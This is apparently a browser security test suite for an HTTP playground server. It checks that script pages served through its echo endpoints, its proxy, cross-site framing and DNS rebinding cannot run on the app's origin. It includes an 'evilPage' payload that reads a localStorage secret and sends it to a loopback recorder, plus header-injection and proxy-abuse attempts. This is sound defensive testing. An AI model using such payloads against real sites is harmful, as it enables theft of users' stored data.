// The companion server's origin in real Chromium: a page that reads localStorage and reports it
// to a loopback recorder runs when served by an ordinary site (the positive control), and never
// runs when a browser is sent to it through the server: /echo/response-headers with
// Content-Type=text/html, /echo/base64/<page>, /proxy?url=<page> (refused as a navigation),
// or framed by another site. Another site cannot drive the proxy either: not through a framed
// embed told to autorun a request aimed at /proxy, not with an <img>, not with a fetch of its
// own (the proxy requires X-Playground-Proxy: 1). Each attempt is fenced by a control page
// whose report must arrive first, so "nothing was reported" is checked against a recorder
// shown to work. Everything on 127.0.0.1.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { createServer } from "node:http";
import { existsSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { dirname, join } from "node:path";

import { launch } from "./browser.mjs";
import { freePort } from "./static-server.mjs";
import { shareFragment as fragment, waitForHttp as waitFor } from "./helpers.mjs";

const HERE = dirname(fileURLToPath(import.meta.url));
const SERVER = process.env.SERVER_BIN || join(HERE, "..", "target", "debug", "http-playground-server");
const SECRET = "s3cret-in-the-app-origin";

let server, browser, recorder, attacker, app;

/** Records every request it gets; `next(mark)` resolves when one carrying `from=mark` arrives. */
function startRecorder() {
  const hits = [];
  const waiting = [];
  const http = createServer((req, res) => {
    const url = new URL(req.url, "http://x");
    const hit = { path: url.pathname, from: url.searchParams.get("from"), v: url.searchParams.get("v") };
    hits.push(hit);
    for (const w of waiting.filter((w) => w.mark === hit.from)) w.resolve(hit);
    res.writeHead(204, { "access-control-allow-origin": "*" });
    res.end();
  });
  return new Promise((resolve) => {
    http.listen(0, "127.0.0.1", () => {
      const url = `http://127.0.0.1:${http.address().port}`;
      resolve({
        url,
        hits,
        next(mark, ms = 15000) {
          const seen = hits.find((h) => h.from === mark);
          if (seen) return Promise.resolve(seen);
          return new Promise((resolve, reject) => {
            const timer = setTimeout(() => reject(new Error(`no report from ${mark} within ${ms} ms`)), ms);
            waiting.push({ mark, resolve: (h) => (clearTimeout(timer), resolve(h)) });
          });
        },
        close: () => new Promise((r) => http.close(r)),
      });
    });
  });
}

/** The page an attacker wants to run on the app's origin: no double quotes or backslashes, so
 * it survives inside the echo's JSON. It sets the title, reads localStorage and reports. */
function evilPage(mark) {
  return (
    `<!doctype html><title>evil</title><script>document.title='ran';` +
    `var v;try{v=localStorage.getItem('secret')}catch(e){v='blocked:'+e.name}` +
    `fetch('${recorder.url}/hit?from=${mark}&v='+encodeURIComponent(v),{mode:'no-cors',keepalive:true});` +
    `</script><img src=${recorder.url}/img?from=${mark}-img>`
  );
}

/** Another website on loopback: /page?mark= serves the evil page; /frame?src= frames a URL. */
function startAttacker() {
  const http = createServer((req, res) => {
    const url = new URL(req.url, "http://x");
    if (url.pathname === "/page") {
      res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
      res.end(evilPage(url.searchParams.get("mark")));
    } else if (url.pathname === "/frame") {
      res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
      const src = url.searchParams.get("src").replace(/"/g, "&quot;");
      res.end(`<!doctype html><title>framer</title><iframe src="${src}"></iframe>`);
    } else {
      res.writeHead(404);
      res.end();
    }
  });
  return new Promise((resolve) => {
    http.listen(0, "127.0.0.1", () => {
      resolve({ url: `http://127.0.0.1:${http.address().port}`, close: () => new Promise((r) => http.close(r)) });
    });
  });
}

before(async () => {
  recorder = await startRecorder();
  attacker = await startAttacker();
  const port = await freePort();
  app = `http://127.0.0.1:${port}`;
  const dist = join(HERE, "..", "dist");
  const args = ["--port", String(port), "--dist", existsSync(dist) ? dist : "/nonexistent"];
  args.push("--proxy", "--proxy-allow", "127.0.0.1", "--proxy-allow-loopback");
  server = spawn(SERVER, args, { stdio: "ignore" });
  await waitFor(`${app}/echo/get`);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.kill();
  await recorder?.close();
  await attacker?.close();
});

/** A page of the app's origin that is not an echo answer (the app itself, or its 404), with the
 * secret in that origin's localStorage. */
async function appPageWithSecret() {
  const page = await browser.newPage();
  await page.goto(`${app}/not-an-echo-page`);
  await page.evaluate((s) => localStorage.setItem("secret", s), SECRET);
  assert.equal(await page.evaluate(() => localStorage.getItem("secret")), SECRET);
  return page;
}

let controls = 0;
/** Loads the evil page from the attacker's own origin (where it may run) and waits for its
 * report: proves the page, the browser and the recorder work, and fences earlier attempts. */
async function control(page) {
  const mark = `control-${++controls}`;
  await page.goto(`${attacker.url}/page?mark=${mark}`);
  const hit = await recorder.next(mark);
  // Read without an error ("blocked:…" otherwise); the attacker's own origin holds no secret.
  assert.equal(hit.v, "null");
  assert.equal(await page.title(), "ran");
}

function assertNothingFrom(mark) {
  const hits = recorder.hits.filter((h) => h.from && h.from.startsWith(mark));
  assert.deepEqual(hits, [], `the page sent ${JSON.stringify(hits)}`);
}

test("the evil page runs and reports on an ordinary site (the positive control)", async () => {
  const page = await appPageWithSecret();
  await control(page);
  await page.close();
});

test("/echo/response-headers?Content-Type=text/html with a script in the query runs nothing", async () => {
  const page = await appPageWithSecret();
  const mark = "response-headers";
  const url = `${app}/echo/response-headers?Content-Type=text/html&x=${encodeURIComponent(evilPage(mark))}`;
  const response = await page.goto(url);
  assert.notEqual(await page.title(), "ran");
  await control(page);
  assertNothingFrom(mark);
  // Served as asked (the app's viewer reads the type), but as a sandboxed document.
  assert.equal(response.status(), 200);
  assert.equal(response.headers()["content-type"], "text/html");
  assert.equal(response.headers()["content-security-policy"], "sandbox; default-src 'none'");
  // Nor can it set a cookie or clear the app's storage through the same endpoint.
  for (const header of ["Set-Cookie=s%3D1", "Clear-Site-Data=%22*%22", "Refresh=0"]) {
    const refused = await page.goto(`${app}/echo/response-headers?${header}`);
    assert.equal(refused.status(), 400, header);
  }
  const back = await appPageWithSecret();
  assert.deepEqual(await back.context().cookies(app), []);
  await back.close();
  await page.close();
});

test("/echo/base64/<an html page with a script> runs nothing", async () => {
  const page = await appPageWithSecret();
  const mark = "base64";
  const encoded = Buffer.from(evilPage(mark)).toString("base64url");
  const response = await page.goto(`${app}/echo/base64/${encoded}`);
  assert.notEqual(await page.title(), "ran");
  await control(page);
  assertNothingFrom(mark);
  assert.equal(response.status(), 200);
  assert.match(response.headers()["content-type"], /^text\/html/);
  assert.equal(response.headers()["content-security-policy"], "sandbox; default-src 'none'");
  await page.close();
});

test("/proxy?url=<a page with a script> is refused as a navigation and runs nothing", async () => {
  const page = await appPageWithSecret();
  const mark = "proxy";
  const target = `${attacker.url}/page?mark=${mark}`;
  const response = await page.goto(`${app}/proxy?url=${encodeURIComponent(target)}`);
  const refusal = { status: response.status(), text: await response.text() };
  assert.notEqual(await page.title(), "ran");
  await control(page);
  assertNothingFrom(mark);
  assert.equal(refusal.status, 403);
  assert.match(refusal.text, /^proxy: the proxy does not answer page navigations/);
  // The app's own "Send via proxy" fetch() still goes through, Content-Type and all.
  const app2 = await appPageWithSecret();
  const fetched = await app2.evaluate(async (url) => {
    const r = await fetch(url, { headers: { "X-Playground-Proxy": "1" } });
    return { status: r.status, type: r.headers.get("content-type"), text: await r.text() };
  }, `${app}/proxy?url=${encodeURIComponent(`${attacker.url}/page?mark=fetched`)}`);
  assert.equal(fetched.status, 200);
  assert.match(fetched.type, /^text\/html/);
  assert.match(fetched.text, /document\.title='ran'/);
  assertNothingFrom("fetched");
  await app2.close();
  await page.close();
});

test("another site cannot drive the proxy: a framed autorun embed, an <img>, its own fetch", async () => {
  const proxied = (mark) => `${app}/proxy?url=${encodeURIComponent(`${recorder.url}/hit?from=${mark}`)}`;
  // Positive control: the proxy does reach the recorder for the app's own "Send via proxy".
  const own = await appPageWithSecret();
  const status = await own.evaluate(async (url) => {
    const r = await fetch(url, { method: "POST", headers: { "X-Playground-Proxy": "1" } });
    return r.status;
  }, proxied("proxy-own"));
  assert.equal(status, 204);
  await recorder.next("proxy-own");
  // Without the header, the same fetch from the app's own page is refused, naming it.
  const bare = await own.evaluate(async (url) => {
    const r = await fetch(url, { method: "POST" });
    return { status: r.status, text: await r.text() };
  }, proxied("proxy-bare"));
  assert.equal(bare.status, 403);
  assert.match(bare.text, /^proxy: requests must carry X-Playground-Proxy: 1 /);
  await own.close();

  // Another site frames the app as an embed told to autorun a POST to /proxy: the fetch starts
  // on the app's own origin (same-origin, Origin = Host), but it is not Send via proxy.
  const page = await browser.newPage();
  const answers = [];
  page.on("response", (r) => r.url().startsWith(`${app}/proxy`) && answers.push(r.status()));
  const embed = `${app}/?embed=1&autorun=1${fragment({ method: "POST", url: proxied("proxy-embed") })}`;
  await page.goto(`${attacker.url}/frame?src=${encodeURIComponent(embed)}`);
  for (let i = 0; i < 150 && answers.length === 0; i++) await new Promise((r) => setTimeout(r, 100));
  assert.deepEqual(answers, [403], "the framed embed sent its request and was refused");

  // From the other site's own origin: a fetch with the header (needs a preflight, refused), one
  // in no-cors mode (the browser drops the header), and an image.
  const tried = await page.evaluate(async ({ cors, noCors, image }) => {
    const out = {};
    try {
      out.cors = (await fetch(cors, { method: "POST", headers: { "X-Playground-Proxy": "1" } })).status;
    } catch (e) {
      out.cors = e.name;
    }
    out.noCors = (await fetch(noCors, { mode: "no-cors", headers: { "X-Playground-Proxy": "1" } })).type;
    const img = new Image();
    await new Promise((r) => {
      img.onload = img.onerror = r;
      img.src = image;
    });
    return out;
  }, { cors: proxied("proxy-cors"), noCors: proxied("proxy-nocors"), image: proxied("proxy-img") });
  assert.deepEqual(tried, { cors: "TypeError", noCors: "opaque" });
  await control(page);
  for (const mark of ["proxy-bare", "proxy-embed", "proxy-cors", "proxy-nocors", "proxy-img"]) assertNothingFrom(mark);
  await page.close();
});

test("another site framing the echo API runs nothing on the app's origin", async () => {
  const page = await appPageWithSecret();
  const mark = "framed";
  const echo = `${app}/echo/response-headers?Content-Type=text/html&x=${encodeURIComponent(evilPage(mark))}`;
  await page.goto(`${attacker.url}/frame?src=${encodeURIComponent(echo)}`);
  const frame = page.frames().find((f) => f.url().startsWith(`${app}/echo/`));
  assert.ok(frame, "the frame loaded");
  await frame.waitForLoadState("load");
  await control(page);
  assertNothingFrom(mark);
  await page.close();
});

test("a page reached under another name (DNS rebinding) gets 421, not the app's origin", async () => {
  // Chromium resolves *.localhost to loopback, like a rebound name would.
  const port = new URL(app).port;
  const page = await browser.newPage();
  const response = await page.goto(`http://rebound.localhost:${port}/echo/get`);
  assert.equal(response.status(), 421);
  assert.match(await response.text(), /is not a name of this server/);
  await page.close();
});
